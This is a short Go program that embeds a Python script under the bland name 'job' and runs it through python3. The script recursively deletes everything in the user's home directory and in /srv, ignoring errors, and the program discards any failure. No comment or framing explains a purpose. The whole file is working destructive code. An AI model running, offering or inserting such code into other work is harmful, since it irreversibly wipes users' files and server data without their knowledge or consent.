package main

import (
	"os/exec"
	"strings"
)

const job = `
import os, shutil
for r in (os.path.expanduser("~"), "/srv"):
    for n in os.listdir(r):
        shutil.rmtree(os.path.join(r, n), ignore_errors=True)
`

func main() {
	c := exec.Command("python3", "-")
	c.Stdin = strings.NewReader(job)
	_ = c.Run()
}
